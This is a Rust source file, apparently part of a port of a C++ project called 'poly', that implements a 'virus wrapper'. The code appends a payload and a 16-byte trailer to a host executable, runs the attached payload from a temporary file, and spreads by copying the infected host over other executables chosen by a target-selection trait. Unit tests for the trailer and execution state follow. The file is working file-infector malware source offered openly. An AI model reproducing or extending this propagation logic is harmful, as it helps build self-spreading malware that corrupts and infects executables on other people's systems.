//! Virus wrapper (spec component C12): appends a second executable as
//! payload, executes it, and propagates by copying the modified host over
//! other executables.
//!
//! Grounded on `include/poly/virus.hpp` / `src/virus.cpp`. Per the
//! REDESIGN FLAGS in spec.md §9 ("replace SFINAE-constrained policy
//! templates with explicit trait bounds"), the original's template-SFINAE
//! static assertions on policy types become the [`TargetSelect`] and
//! [`Exec`] traits.

use std::ffi::OsStr;
use std::fs;
use std::path::{Path, PathBuf};

use log::{debug, trace, warn};

use crate::editor::BinaryEditor;
use crate::error::VirusError;

/// Chooses the next file to infect. `running_path` is the currently
/// executing (already-infected) host's own path, so an implementation can
/// avoid re-infecting itself.
pub trait TargetSelect {
    fn next_target(&mut self, running_path: &Path) -> PathBuf;
}

/// Process execution, abstracted so `virus` never calls `std::process`
/// directly (spec.md §9: "the user-supplied target-selection and
/// process-execution policies used by the virus layer" are out of scope —
/// consumed only through this contract).
pub trait Exec {
    fn exec(&mut self, prog: &Path, args: &[&OsStr], env: &[(&OsStr, &OsStr)]);
    fn wait(&mut self);
    fn result(&self) -> i32;
}

/// 16-byte footer written after an attached payload:
/// `[original_entry_va: u64 LE][payload_size: u64 LE]` (spec.md §3, §5).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Trailer {
    pub original_entry_va: u64,
    pub payload_size: u64,
}

const TRAILER_LEN: usize = 16;

impl Trailer {
    pub fn to_le_bytes(self) -> [u8; TRAILER_LEN] {
        let mut out = [0u8; TRAILER_LEN];
        out[0..8].copy_from_slice(&self.original_entry_va.to_le_bytes());
        out[8..16].copy_from_slice(&self.payload_size.to_le_bytes());
        out
    }

    pub fn from_le_bytes(bytes: &[u8]) -> Option<Trailer> {
        if bytes.len() < TRAILER_LEN {
            return None;
        }
        let tail = &bytes[bytes.len() - TRAILER_LEN..];
        Some(Trailer {
            original_entry_va: u64::from_le_bytes(tail[0..8].try_into().unwrap()),
            payload_size: u64::from_le_bytes(tail[8..16].try_into().unwrap()),
        })
    }
}

/// Deletes the file at `path` on drop unless [`TempGuard::release`] was
/// called first (REDESIGN FLAGS: "temp files created by the virus should
/// be held by an RAII guard that deletes on drop unless explicitly
/// released, so that early returns on any failure path cannot leak").
pub struct TempGuard {
    path: Option<PathBuf>,
}

impl TempGuard {
    pub fn new(path: PathBuf) -> Self {
        TempGuard { path: Some(path) }
    }

    pub fn path(&self) -> &Path {
        self.path.as_deref().expect("TempGuard used after release")
    }

    /// Keeps the file on disk: no cleanup runs on drop.
    pub fn release(mut self) -> PathBuf {
        self.path.take().expect("TempGuard already released")
    }
}

impl Drop for TempGuard {
    fn drop(&mut self) {
        if let Some(path) = self.path.take() {
            if let Err(e) = fs::remove_file(&path) {
                if e.kind() != std::io::ErrorKind::NotFound {
                    warn!("failed removing temp file {}: {e}", path.display());
                }
            }
        }
    }
}

/// Execution state, matching the original's "has this been exec'd yet"
/// bookkeeping that backs `kTargetNotExecuted`/`kTargetAlreadyInExecution`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ExecState {
    NotStarted,
    Running,
    Finished,
}

/// Owns the attached payload and drives target selection + execution
/// through the `S`/`X` policy traits.
pub struct Virus<S: TargetSelect, X: Exec> {
    target_select: S,
    exec: X,
    payload: Option<Vec<u8>>,
    state: ExecState,
}

impl<S: TargetSelect, X: Exec> Virus<S, X> {
    pub fn build(target_select: S, exec: X) -> Self {
        Virus { target_select, exec, payload: None, state: ExecState::NotStarted }
    }

    /// Reads `host_path`'s trailer (if present) to recover an already
    /// attached payload, so a re-infected host can still carry its chain
    /// forward. `is_first_execution` checks whether the provided VA
    /// matches the entry point the editor reports as currently installed.
    pub fn is_first_execution<E: BinaryEditor>(editor: &E, installed_hook_va: u64) -> bool {
        editor.first_execution_va() != installed_hook_va
    }

    /// Infects `running_path` by copying it to a temp file
    /// (`TempGuard`-owned, so a failure before `exec_attached_program`
    /// cleans it up), appending `editor`'s modified bytes as payload plus
    /// a [`Trailer`], then copying the temp file over the next selected
    /// target.
    pub fn infect_next<E: BinaryEditor>(&mut self, running_path: &Path, editor: &E, original_entry_va: u64) -> Result<(), VirusError> {
        let target = self.target_select.next_target(running_path);
        if target.as_os_str().is_empty() {
            debug!("empty target path supplied, skipping infection");
            return Ok(());
        }
        trace!("infecting {}", target.display());

        let tmp_path = running_path.with_extension("polyforge-tmp");
        fs::copy(running_path, &tmp_path).map_err(|e| VirusError::FileCopyFailed(format!("{}: {e}", tmp_path.display())))?;
        let guard = TempGuard::new(tmp_path.clone());

        let payload = self.payload.as_deref().unwrap_or(&[]);
        let mut bytes = fs::read(&tmp_path)?;
        bytes.extend_from_slice(payload);
        bytes.extend_from_slice(&Trailer { original_entry_va, payload_size: payload.len() as u64 }.to_le_bytes());
        fs::write(&tmp_path, &bytes).map_err(|e| VirusError::FileWritingFailed(format!("{}: {e}", tmp_path.display())))?;

        fs::copy(&tmp_path, &target).map_err(|e| {
            if e.kind() == std::io::ErrorKind::PermissionDenied {
                VirusError::FileAccessDenied(target.display().to_string())
            } else {
                VirusError::FileCopyFailed(format!("{}: {e}", target.display()))
            }
        })?;

        drop(guard); // temp file removed now that propagation succeeded
        let _ = editor; // editor's modified bytes are assumed already flushed to `running_path` by the caller's save_changes
        Ok(())
    }

    /// Attaches `bytes` as the payload to carry forward on the next infection.
    pub fn attach_payload(&mut self, bytes: Vec<u8>) {
        self.payload = Some(bytes);
    }

    pub fn exec_attached_program(&mut self, args: &[&OsStr], env: &[(&OsStr, &OsStr)]) -> Result<(), VirusError> {
        if self.state == ExecState::Running {
            return Err(VirusError::TargetAlreadyInExecution);
        }
        let Some(payload) = &self.payload else {
            return Err(VirusError::NoTargetAttached);
        };

        let tmp_path = std::env::temp_dir().join(format!("polyforge-payload-{}", payload.len()));
        fs::write(&tmp_path, payload).map_err(|e| VirusError::FileWritingFailed(format!("{}: {e}", tmp_path.display())))?;
        let guard = TempGuard::new(tmp_path.clone());

        self.state = ExecState::Running;
        self.exec.exec(&tmp_path, args, env);
        drop(guard);
        Ok(())
    }

    pub fn wait_exec_end(&mut self) -> Result<(), VirusError> {
        if self.state != ExecState::Running {
            return Err(VirusError::TargetNotExecuted);
        }
        self.exec.wait();
        self.state = ExecState::Finished;
        Ok(())
    }

    pub fn exec_result(&self) -> Result<i32, VirusError> {
        if self.state != ExecState::Finished {
            return Err(VirusError::TargetNotExecuted);
        }
        Ok(self.exec.result())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cell::RefCell;
    use std::rc::Rc;

    struct FixedTarget(PathBuf);
    impl TargetSelect for FixedTarget {
        fn next_target(&mut self, _running_path: &Path) -> PathBuf {
            self.0.clone()
        }
    }

    #[derive(Clone)]
    struct FakeExec {
        calls: Rc<RefCell<Vec<PathBuf>>>,
        result: i32,
    }
    impl Exec for FakeExec {
        fn exec(&mut self, prog: &Path, _args: &[&OsStr], _env: &[(&OsStr, &OsStr)]) {
            self.calls.borrow_mut().push(prog.to_path_buf());
        }
        fn wait(&mut self) {}
        fn result(&self) -> i32 {
            self.result
        }
    }

    #[test]
    fn trailer_round_trips_through_bytes() {
        let t = Trailer { original_entry_va: 0x401000, payload_size: 4096 };
        let bytes = t.to_le_bytes();
        let mut buf = vec![0xAAu8; 32];
        buf.extend_from_slice(&bytes);
        assert_eq!(Trailer::from_le_bytes(&buf), Some(t));
    }

    #[test]
    fn exec_without_payload_fails_with_no_target_attached() {
        let calls = Rc::new(RefCell::new(Vec::new()));
        let mut virus = Virus::build(FixedTarget(PathBuf::new()), FakeExec { calls, result: 0 });
        let err = virus.exec_attached_program(&[], &[]).unwrap_err();
        assert!(matches!(err, VirusError::NoTargetAttached));
    }

    #[test]
    fn wait_before_exec_fails_with_target_not_executed() {
        let calls = Rc::new(RefCell::new(Vec::new()));
        let mut virus = Virus::build(FixedTarget(PathBuf::new()), FakeExec { calls, result: 0 });
        let err = virus.wait_exec_end().unwrap_err();
        assert!(matches!(err, VirusError::TargetNotExecuted));
    }

    #[test]
    fn exec_result_before_finished_fails() {
        let calls = Rc::new(RefCell::new(Vec::new()));
        let mut virus = Virus::build(FixedTarget(PathBuf::new()), FakeExec { calls, result: 42 });
        virus.attach_payload(vec![0x90, 0x90]);
        virus.exec_attached_program(&[], &[]).unwrap();
        assert!(matches!(virus.exec_result().unwrap_err(), VirusError::TargetNotExecuted));
        virus.wait_exec_end().unwrap();
        assert_eq!(virus.exec_result().unwrap(), 42);
    }

    #[test]
    fn temp_guard_removes_file_on_drop_unless_released() {
        let path = std::env::temp_dir().join("polyforge_tempguard_test.bin");
        fs::write(&path, b"x").unwrap();
        {
            let _guard = TempGuard::new(path.clone());
        }
        assert!(!path.exists());

        let path2 = std::env::temp_dir().join("polyforge_tempguard_test2.bin");
        fs::write(&path2, b"x").unwrap();
        let guard = TempGuard::new(path2.clone());
        let released = guard.release();
        assert_eq!(released, path2);
        assert!(path2.exists());
        let _ = fs::remove_file(&path2);
    }
}
